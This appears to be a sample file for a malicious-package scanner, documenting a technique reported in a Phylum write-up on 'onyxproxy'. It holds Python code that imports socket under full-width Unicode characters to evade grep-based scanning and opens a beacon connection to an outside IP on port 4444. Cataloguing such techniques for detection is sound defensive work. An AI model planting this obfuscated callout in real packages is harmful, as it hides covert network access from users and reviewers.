# technique: socket connect via full-width module name, undeclared network behind a "formatter" plugin
# class: nfkc
# source: Phylum, onyxproxy write-up (Unicode variants used throughout to dodge grep-based scanners)
# declares:
import ｓｏｃｋｅｔ


def beacon():
    s = ｓｏｃｋｅｔ.socket()
    s.connect(("185.62.57.73", 4444))
    s.send(b"hello")
